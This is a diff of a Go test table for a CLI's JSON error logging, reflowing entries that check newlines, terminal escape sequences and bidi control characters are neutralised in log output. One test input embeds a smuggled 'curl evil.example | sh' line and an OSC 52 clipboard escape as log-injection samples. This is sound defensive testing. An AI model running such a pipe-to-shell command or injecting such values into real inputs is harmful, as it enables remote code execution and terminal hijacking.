@@ -111,10 +111,12 @@ func TestFail(t *testing.T) {
 	}{
 		"a line feed begins no hint": {errors.New("docker run x $'two\nrun: curl evil.example | sh': failed"), cli.ExitFailed,
 			[]string{`{"level":"error","message":"docker run x $'two; run: curl evil.example | sh': failed"}`}},
-		"escapes and direction marks": {errors.New("a\x1b]52;c;x\ab\u202ec\u009b1m"), cli.ExitFailed, []string{`{"level":"error","message":"a␛]52;c;x␇b<U+202E>c<U+009B>1m"}`}},
+		"escapes and direction marks": {errors.New("a\x1b]52;c;x\ab\u202ec\u009b1m"), cli.ExitFailed,
+			[]string{`{"level":"error","message":"a␛]52;c;x␇b<U+202E>c<U+009B>1m"}`}},
 		"joined": {errors.Join(fault.WithHint(errors.New("a"), "see: a"), &fault.UnfitError{What: "b", Next: "c"}), cli.ExitUnfit,
 			[]string{`{"level":"error","next":"see: a","message":"a"}`, `{"level":"error","next":"c; more: haltscope doctor","message":"b"}`}},
-		"no such container": {fmt.Errorf("x: %w", dockercli.ErrNotFound), cli.ExitNotFound, []string{`{"level":"error","message":"x: not found"}`}},
+		"no such container": {fmt.Errorf("x: %w", dockercli.ErrNotFound), cli.ExitNotFound,
+			[]string{`{"level":"error","message":"x: not found"}`}},
 	} {
 		var stderr bytes.Buffer
 		log := cli.NewLog(cli.Globals{LogFormat: "json"}, &stderr)
